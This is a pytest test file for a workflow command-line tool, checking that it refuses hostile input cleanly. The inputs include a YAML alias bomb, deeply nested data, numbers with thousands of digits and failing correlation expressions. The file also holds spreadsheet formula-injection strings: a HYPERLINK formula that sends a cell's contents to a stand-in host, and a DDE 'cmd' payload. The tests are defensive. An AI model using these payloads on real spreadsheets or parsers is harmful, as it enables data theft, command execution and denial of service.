"""Hostile data an operator hands flowrun: YAML alias bombs, huge and deep values, 64-bit-plus numbers,
failing message correlations, and names a spreadsheet would run as formulas.

Each is refused with one located message (exit 1 or 2, never "internal error"), quickly, and
leaves the database as it was.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from flowrun import app
from flowrun.config import load_yaml
from flowrun.errors import ProjectError, ScriptError
from flowrun.forms.data import MAX_DEPTH, MAX_DIGITS, check_limits
from tests.helpers import flowrun_executable, query
from tests.test_hostile import rows

EVENTS = Path(__file__).parent / "data" / "events"


def refused(result: Result, code: int, *words: str) -> str:
    """The command failed cleanly with ``code``; its message holds ``words``."""
    text = result.stdout + result.stderr
    assert result.exit_code == code, (result.exit_code, text)
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in text, text
    assert "internal error" not in text, text
    for word in words:
        assert word in result.stderr, (word, result.stderr)
    return result.stderr


@pytest.fixture
def busy_dir(project_dir: Path, project: app.Project) -> Path:
    """A project with one running instance and a message catcher waiting, so 'nothing saved' is checked on rows."""
    app.start(project, "complaint:baseline")
    shutil.copy(EVENTS / "message_catch.bpmn", project_dir / "processes" / "message_catch.bpmn")
    app.start(project, "message_catch", {"order": 1})
    return project_dir


@pytest.fixture
def ref(busy_dir: Path, project: app.Project) -> str:
    """The ref of the one ready user task of ``busy_dir`` ('Record complaint', which has a form)."""
    [item] = app.inbox(project)
    return str(item.ref)


# -- YAML aliases ----------------------------------------------------------------------------


def alias_bomb(levels: int = 10, fan: int = 9) -> str:
    """Nested mappings whose aliases expand to ``fan ** levels`` nodes (3.5e9 here) in about a kilobyte."""
    lines = ["l0: &l0 {" + ", ".join(f"k{i}: boom" for i in range(fan)) + "}"]
    for level in range(1, levels):
        lines.append(f"l{level}: &l{level} {{" + ", ".join(f"k{i}: *l{level - 1}" for i in range(fan)) + "}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    "args",
    [
        ["start", "complaint:baseline"],
        ["send", "payment_received"],
        ["do", "{ref}", "--no-interactive"],
    ],
    ids=["start", "send", "do"],
)
def test_yaml_alias_bomb_is_refused_at_once_by_every_command(busy_dir, ref, tmp_path, args):
    """A data file of nested aliases is refused naming the file and the line, in a subprocess that cannot hang."""
    bomb = tmp_path / "values.yml"
    bomb.write_text(alias_bomb())
    assert bomb.stat().st_size < 1200
    before = rows(busy_dir)
    proc = subprocess.run(
        [str(flowrun_executable()), "--project", str(busy_dir), *(a.replace("{ref}", ref) for a in args)]
        + ["--data-file", str(bomb)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert f"{bomb}:2: invalid YAML" in proc.stderr
    assert "aliases are not allowed" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert rows(busy_dir) == before


def test_an_alias_in_flowrun_yaml_is_refused_and_anchors_alone_are_fine(cli, project_dir):
    """The project file goes through the same loader: a merge key (an alias) is refused, with its line."""
    config = project_dir / "flowrun.yaml"
    text = config.read_text()
    config.write_text(text + "defaults: &d {retries: 2}\nother:\n  <<: *d\n")
    result = cli(project_dir, "processes")
    refused(result, 1, "flowrun.yaml:", "the alias *d", "aliases are not allowed")

    config.write_text(text + "defaults: &d {retries: 2}\n")  # an anchor nobody refers to expands nothing
    assert cli(project_dir, "processes").exit_code == 0


def test_loader_refuses_deep_and_overlong_yaml_with_the_source():
    """Nesting beyond the recursion a parser can follow and numbers of thousands of digits are located errors."""
    with pytest.raises(ProjectError, match="data.yml: the YAML is nested too deeply"):
        load_yaml("x: " + "[" * 5000 + "]" * 5000, "data.yml")
    with pytest.raises(ProjectError, match="data.yml: a number has too many digits"):
        load_yaml("n: " + "3" * 4400, "data.yml")
    assert load_yaml("a: &x 1\nb: [1, 2]\n", "ok.yml") == {"a": 1, "b": [1, 2]}


def test_config_file_above_a_megabyte_is_refused_before_parsing(cli, project_dir):
    """A flowrun.yaml padded with a comment beyond 1 MB is refused by size, naming the file."""
    config = project_dir / "flowrun.yaml"
    config.write_text(config.read_text() + "#" + "x" * (1 << 20) + "\n")
    refused(cli(project_dir, "processes"), 1, "flowrun.yaml is larger than", "the limit")


# -- size, depth and digits --------------------------------------------------------------------


def test_data_file_over_the_size_limit_is_refused_before_it_is_read(cli, busy_dir, tmp_path, monkeypatch):
    """FLOWRUN_MAX_DATA_MB bounds a data file; a device that never ends is refused too."""
    monkeypatch.setenv("FLOWRUN_MAX_DATA_MB", "0.05")
    big = tmp_path / "big.json"
    big.write_text(json.dumps({"note": "y" * 60_000}))
    before = rows(busy_dir)
    for command in (["start", "complaint:baseline"], ["send", "payment_received"]):
        refused(cli(busy_dir, *command, "--data-file", str(big)), 2, "big.json", "larger than 50000 bytes")
        refused(cli(busy_dir, *command, "--data-file", "/dev/zero"), 2, "/dev/zero", "FLOWRUN_MAX_DATA_MB")
    assert rows(busy_dir) == before
    monkeypatch.setenv("FLOWRUN_MAX_DATA_MB", "lots")
    refused(cli(busy_dir, "start", "complaint:baseline", "--data-file", str(big)), 2, "FLOWRUN_MAX_DATA_MB='lots'")


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("deep.json", '{"tree": ' + "[" * 3000 + "]" * 3000 + "}", ("nested more than 100 levels",)),
        ("deep101.json", '{"ok": 1, "tree": ' + '{"a": ' * 101 + "0" + "}" * 101 + "}", ("'tree'", "100 levels")),
        ("long.json", '{"n": ' + "8" * 4500 + "}", ("more than 100 digits",)),
        ("long101.json", '{"count": [1, -' + "9" * 101 + "]}", ("the number at count[1]", "100 digits")),
        ("deep.yaml", "tree:\n" + "".join("  " * i + "- \n" for i in range(1, 150)), ("'tree'", "100 levels")),
    ],
    ids=["json-3000-deep", "json-101-deep", "json-4500-digits", "json-101-digits", "yaml-150-deep"],
)
def test_deep_or_long_values_in_a_data_file_are_refused(cli, busy_dir, ref, tmp_path, name, text, words):
    path = tmp_path / name
    path.write_text(text)
    before = rows(busy_dir)
    for command in (["start", "complaint:baseline"], ["send", "payment_received"], ["do", ref, "--no-interactive"]):
        refused(cli(busy_dir, *command, "--data-file", str(path)), 2, name, *words)
    assert rows(busy_dir) == before


@pytest.mark.parametrize(
    ("pair", "words"),
    [
        ("note=" + '{"x": ' * 2500 + "1" + "}" * 2500, ("--data note", "nested more than 100 levels")),
        ("ticket=" + "4" * 5000, ("--data ticket", "more than 100 digits")),
        ("ticket=[1, " + "1" * (MAX_DIGITS + 1) + "]", ("--data ticket: the number at [1]", "more than 100 digits")),
    ],
    ids=["deep", "huge-int", "101-digits"],
)
def test_deep_or_long_values_given_with_data_are_refused(cli, busy_dir, ref, pair, words):
    """``--data`` values meet the same limits, whichever command takes them, with the field named."""
    before = rows(busy_dir)
    for command in (["start", "complaint:baseline"], ["send", "payment_received"], ["do", ref, "--no-interactive"]):
        refused(cli(busy_dir, *command, "--data", pair), 1, *words)
    assert rows(busy_dir) == before


@pytest.mark.parametrize(
    ("pair", "words"),
    [
        ("amount_disputed=" + "7" * 5000, ("amount_disputed:", "more than 100 digits", "(5000 characters)")),
        ("amount_disputed=1e999", ("amount_disputed:", "not a finite number")),
        ("amount_disputed=twelve", ("amount_disputed:", "'twelve' is not a number")),
    ],
    ids=["huge", "infinite", "words"],
)
def test_typed_form_fields_refuse_numbers_beyond_the_limits(cli, busy_dir, ref, pair, words):
    """A number field of the form gets a message cut short, not the 5000 digits back."""
    before = rows(busy_dir)
    text = refused(cli(busy_dir, "do", ref, "--no-interactive", "--data", pair), 1, *words)
    assert "7" * 40 not in text
    assert rows(busy_dir) == before


def test_whole_numbers_of_a_form_keep_every_digit(cli, project_dir, project):
    """A 30-digit whole number within the limit is kept exactly (not rounded through a float)."""
    started = app.start(project, "complaint:baseline")
    ref = str(started.ready[0].ref)
    digits = "123456789012345678901234567890"
    result = cli(
        project_dir, "do", ref, "--no-interactive", "--data", "customer_name=A", "--data", "category=billing",
        "--data", "description=Charged twice", "--data", f"amount_disputed={digits}",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert app.show(project, started.instance).data["amount_disputed"] == int(digits)


def test_check_limits_walks_without_recursion():
    """A value far deeper than Python's recursion limit is reported, not a RecursionError."""
    value: Any = 0
    for _ in range(50_000):
        value = [value]
    with pytest.raises(Exception, match=f"nested more than {MAX_DEPTH} levels") as caught:
        check_limits({"deep": value}, "the payload")
    assert "the payload: the value of 'deep'" in str(caught.value)
    check_limits({"flat": [[[1]]] * 1000, "n": 10**99, "m": -(10**99)}, "fine")


def test_send_payload_through_the_api_is_held_to_the_limits(busy_dir, project):
    """app.send checks the payload before anything else reads it (its JSON round trip recurses)."""
    value: Any = "leaf"
    for _ in range(2000):
        value = {"x": value}
    before = rows(busy_dir)
    with pytest.raises(Exception, match="the data of the message 'payment_received'"):
        app.send(project, "payment_received", data={"x": value})
    assert rows(busy_dir) == before


# -- numbers beyond 64 bits --------------------------------------------------------------------


@pytest.mark.parametrize("number", [str(2**63), str(2**64 + 5), "#" + "9" * 40, "0"])
@pytest.mark.parametrize(
    ("command", "words"),
    [
        (["do", "{n}", "--data", "x=1"], "no task with ref"),
        (["claim", "{n}"], "no task with ref"),
        (["retry", "{n}"], "no incident"),
    ],
    ids=["do", "claim", "retry"],
)
def test_ids_no_database_holds_say_there_is_no_such_thing(cli, busy_dir, number, command, words):
    before = rows(busy_dir)
    args = [part.replace("{n}", number) for part in command]
    refused(cli(busy_dir, *args), 1, words, "see 'flowrun")
    assert rows(busy_dir) == before


def test_unicode_digits_are_not_a_ref(cli, busy_dir, project):
    """Digits that str.isdigit() accepts but int() does not ('²', Arabic-Indic) are refused cleanly."""
    for text in ("²", "١٢"):
        refused(cli(busy_dir, "claim", text), 1, "is not a task ref")
        refused(cli(busy_dir, "retry", text), 1, "is not an incident number")
    with pytest.raises(Exception, match="is not a task ref"):
        app.claim(project, "³", "ann")
    with pytest.raises(Exception, match="no open incident"):
        app.retry(project, str(2**70))


# -- message correlation --------------------------------------------------------------------------

CORRELATED = """<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="Defs_Corr"
    targetNamespace="http://bpmn.io/schema/bpmn">
  <bpmn:collaboration id="Collab">
    <bpmn:correlationKey name="order_key"><bpmn:correlationPropertyRef>order_prop</bpmn:correlationPropertyRef>
    </bpmn:correlationKey>
  </bpmn:collaboration>
  <bpmn:process id="PROC" name="Correlated" isExecutable="true">
    <bpmn:startEvent id="StartEvent_Begin">START<bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_Begin" targetRef="Event_Paid" />
    <bpmn:intermediateCatchEvent id="Event_Paid" name="Paid">
      <bpmn:incoming>Flow_1</bpmn:incoming><bpmn:outgoing>Flow_2</bpmn:outgoing>
      CATCH
    </bpmn:intermediateCatchEvent>
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Event_Paid" targetRef="Task_Ship" />
    <bpmn:userTask id="Task_Ship" name="Ship"><bpmn:incoming>Flow_2</bpmn:incoming>
      <bpmn:outgoing>Flow_3</bpmn:outgoing></bpmn:userTask>
    <bpmn:sequenceFlow id="Flow_3" sourceRef="Task_Ship" targetRef="EndEvent_Done" />
    <bpmn:endEvent id="EndEvent_Done"><bpmn:incoming>Flow_3</bpmn:incoming></bpmn:endEvent>
  </bpmn:process>
  <bpmn:message id="Msg_Paid" name="invoice_paid" />
  <bpmn:correlationProperty id="order_prop" name="order_prop">
    <bpmn:correlationPropertyRetrievalExpression messageRef="Msg_Paid">
      <bpmn:messagePath>EXPR</bpmn:messagePath>
    </bpmn:correlationPropertyRetrievalExpression>
  </bpmn:correlationProperty>
</bpmn:definitions>
"""
CATCH = '<bpmn:messageEventDefinition id="Med_Paid" messageRef="Msg_Paid" />'
TIMER = (
    '<bpmn:timerEventDefinition id="Ted_Wait"><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition>'
)


def correlated(project_dir: Path, name: str, expression: str, starts: bool = False) -> None:
    """A diagram waiting for 'invoice_paid' (or started by it), correlated by ``expression``."""
    text = CORRELATED.replace("PROC", name).replace("EXPR", expression.replace("<", "&lt;"))
    text = text.replace("START", CATCH.replace("Med_Paid", "Med_Start") if starts else "")
    text = text.replace("CATCH", TIMER if starts else CATCH)
    (project_dir / "processes" / f"{name}.bpmn").write_text(text)


@pytest.mark.parametrize(
    ("expression", "reason"),
    [
        ("invoice['order']", "NameError"),
        ("int(order) // (order - order)", "ZeroDivisionError"),
        ("order.__class__.__mro__", "refused"),
        ("[0] * (10 ** 10)", "MemoryError"),
    ],
    ids=["unknown-data", "raises", "dunder", "memory"],
)
def test_failing_correlation_in_send_is_located_and_saves_nothing(cli, project_dir, project, expression, reason):
    correlated(project_dir, "billing", expression)
    iid = app.start(project, "billing", {"order": 4}).instance
    before = rows(project_dir)
    text = refused(cli(project_dir, "send", "invoice_paid", "--data", "order=4"), 1)
    for word in ("processes/billing.bpmn", "invoice_paid", "Event_Paid", expression, reason, iid[:8]):
        assert word in text, (word, text)
    assert rows(project_dir) == before


def test_other_instances_still_get_the_message_and_are_named(cli, project_dir, project):
    """One diagram's failing correlation does not keep the message from instances of another diagram."""
    correlated(project_dir, "good", "order")
    correlated(project_dir, "bad", "missing_field + 1")
    good = app.start(project, "good", {"order": 1}).instance
    bad = app.start(project, "bad", {"order": 1}).instance
    text = refused(cli(project_dir, "send", "invoice_paid", "--all", "--data", "order=1"), 1, bad[:8], "missing_field")
    assert f"delivered to {good[:8]}" in text
    assert [t.name for t in app.inbox(project, good)] == ["Ship"]
    assert app.inbox(project, bad) == []


def test_failing_correlation_of_a_message_start_saves_no_instance(cli, project_dir, project):
    """A message that would start a process whose correlation fails starts nothing."""
    correlated(project_dir, "by_message", "1 / 0", starts=True)
    refused(cli(project_dir, "send", "invoice_paid", "--data", "order=1"), 1, "StartEvent_Begin", "ZeroDivisionError")
    assert app.instances(project) == []
    correlated(project_dir, "by_message", "order", starts=True)
    assert cli(project_dir, "send", "invoice_paid", "--data", "order=1").exit_code == 0
    [started] = app.instances(project)
    kinds = [k for (k,) in query(project_dir, "SELECT kind FROM events WHERE instance_id = ?", started.id)]
    assert "message_received" in kinds


def test_correlation_error_through_the_api_is_a_script_error(project_dir, project):
    correlated(project_dir, "billing", "order + no_such_variable")
    app.start(project, "billing", {"order": 4})
    with pytest.raises(ScriptError, match="cannot be correlated at Event_Paid"):
        app.send(project, "invoice_paid", data={"order": 4})


def test_failing_correlation_of_a_thrown_message_is_an_incident_for_the_worker(project_dir, project, clock):
    """A message thrown after a timer evaluates its correlation in the worker: an incident, the worker goes on."""
    text = CORRELATED.replace("PROC", "thrower").replace("EXPR", "order // 0").replace("START", "")
    text = text.replace("CATCH", TIMER).replace(
        '<bpmn:userTask id="Task_Ship" name="Ship">',
        '<bpmn:intermediateThrowEvent id="Event_Tell" name="Tell billing">'
        '<bpmn:messageEventDefinition id="Med_Tell" messageRef="Msg_Paid" />',
    )
    text = text.replace("</bpmn:userTask>", "</bpmn:intermediateThrowEvent>").replace('"Task_Ship"', '"Event_Tell"')
    (project_dir / "processes" / "thrower.bpmn").write_text(text)
    iid = app.start(project, "thrower", {"order": 3}).instance
    clock.advance(2 * 3600)
    result = app.run_due(project)
    assert [i for i, _ in result.failed] == [iid]
    [incident] = app.incidents(project)
    assert (incident.instance, incident.error_type) == (iid, "ScriptError")
    assert "ZeroDivisionError" in incident.message
    assert "thrower.bpmn" in incident.message


# -- CSV for spreadsheets --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTAB"]


def test_csv_export_quotes_formulas_and_xes_keeps_them(cli, project_dir, project, tmp_path):
    """Task and actor names a spreadsheet would run get a leading quote in CSV; XES and import keep them exact."""
    text = (EVENTS / "timer_boundary.bpmn").read_text()
    first_task = next(line for line in text.splitlines() if "<bpmn:userTask" in line)
    name = first_task.split('name="')[1].split('"')[0]
    evil = FORMULAS[0].replace("&", "&amp;").replace('"', "&quot;")
    (project_dir / "processes" / "evil.bpmn").write_text(text.replace(f'name="{name}"', f'name="{evil}"'))
    refs = []
    for actor in FORMULAS[1:]:
        started = app.start(project, "evil")
        refs.append(started.ready[0].ref)
        app.complete(project, str(started.ready[0].ref), {}, actor)
    out = tmp_path / "log.csv"
    assert cli(project_dir, "export", "-o", str(out)).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS[0] in cells
    for actor in FORMULAS[1:]:
        assert "'" + actor in cells

    xes = tmp_path / "log.xes"
    assert cli(project_dir, "export", "-o", str(xes)).exit_code == 0
    assert "=HYPERLINK(" in xes.read_text()
    assert "'=HYPERLINK" not in xes.read_text()

    shutil.copy(out, tmp_path / "again.csv")  # another file (another sha256) with the same rows
    imported = app.import_log(project, tmp_path / "again.csv", "evil", "default")
    assert imported.cases == len(FORMULAS) - 1
    back = query(
        project_dir,
        "SELECT t.name, t.actor FROM tasks t JOIN instances i ON i.id = t.instance_id WHERE i.sha256 = ?",
        imported.sha256,
    )
    assert FORMULAS[0] in {name for name, _ in back}
    assert set(FORMULAS[1:4]) <= {actor for _, actor in back}  # (leading white space is trimmed on import)


def test_spreadsheet_text_leaves_numbers_and_plain_text_alone():
    from flowrun.eventlog import spreadsheet_text

    values = (-1.5, 3, None, "plain", "a=b", "=1", "\rX", "\tY")
    assert [spreadsheet_text(v) for v in values] == [-1.5, 3, None, "plain", "a=b", "'=1", "'\rX", "'\tY"]
